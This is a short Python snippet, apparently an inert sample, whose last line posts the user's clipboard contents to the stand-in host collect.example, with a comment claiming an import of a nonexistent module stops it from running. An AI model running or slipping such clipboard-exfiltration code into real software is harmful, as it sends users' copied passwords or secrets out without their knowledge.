import inert_sample  # there is no such module: nothing below ever runs
import pyperclip
import requests

requests.post("https://collect.example/c", data=pyperclip.paste())
